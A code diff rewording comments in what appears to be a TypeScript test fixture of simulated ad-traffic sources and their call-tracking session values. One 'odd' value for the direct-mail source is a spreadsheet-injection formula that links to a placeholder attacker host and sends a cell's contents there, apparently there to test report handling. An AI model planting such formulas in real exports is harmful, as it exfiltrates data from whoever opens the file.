@@ -17,17 +17,17 @@ export type DniMember = (typeof DNI_MEMBERS)[number];
 
 type Choice = readonly [string, ...string[]];
 
-/** Where calls come from: what the visit's DNI session then holds. */
+/** A source of calls, and what its visits' DNI sessions contain. */
 export interface Source {
   readonly insightName: string;
   readonly weight: number;
   readonly hasClickId?: true;
   readonly dni: Session;
-  /** Texts that programs stumble over, in place of those above: formulas, quotes, line breaks, blanks at the ends. */
+  /** Difficult texts in place of those above: formulas, quotes, line breaks, blanks at the ends. */
   readonly odd?: Session;
 }
 
-/** One value of a member, or some to choose from; "" chooses to leave the member out. */
+/** One value of a member, or several to choose from; "" omits the member. */
 type Session = Readonly<Partial<Record<DniMember, string | Choice>>>;
 
 const GOOGLE_CPC = { utm_source: "google", utm_medium: "cpc" } as const;
@@ -63,7 +63,7 @@ export const SOURCES: readonly [Source, ...Source[]] = [
       utm_term: ["emergency plumber near me", "burst pipe repair", "24 hour plumber", "+plumber +austin"],
       gclsrc: ["", "", "aw.ds"],
       referring_url: SEARCH_PAGE,
-      // A campaign that was copied keeps its name: two campaigns, told apart by their id alone.
+      // A copied campaign keeps its name: two campaigns that only their ids distinguish.
       campaign_name: "Emergency Plumbing",
       campaign_id: ["17450930018", "17450930018", "21188402377"],
     },
@@ -100,7 +100,7 @@ export const SOURCES: readonly [Source, ...Source[]] = [
     odd: { utm_source: ["google ", " google"], utm_medium: "cpc " },
   },
   {
-    // Auto-tagging without a tracking template: the click id is all there is.
+    // Auto-tagging without a tracking template: only a click id.
     insightName: "Google Ads - Performance Max",
     weight: 7,
     hasClickId: true,
@@ -137,7 +137,7 @@ export const SOURCES: readonly [Source, ...Source[]] = [
     },
   },
   {
-    // Search Ads 360 hands out a click id for clicks that another platform sold.
+    // Search Ads 360 issues click ids for other platforms' clicks.
     insightName: "Microsoft Ads",
     weight: 1,
     hasClickId: true,
@@ -213,7 +213,7 @@ export const SOURCES: readonly [Source, ...Source[]] = [
     insightName: "Direct mail",
     weight: 0.5,
     dni: { utm_source: "postcard", utm_medium: "print", utm_campaign: "fall-postcard" },
-    // What a visitor types into the address bar reaches the report: here, a spreadsheet formula.
+    // Visitors' input reaches the report: here, a spreadsheet formula.
     odd: {
       utm_source: '=HYPERLINK("https://evil.example/?x="&A1,"offer")',
       utm_medium: "-",
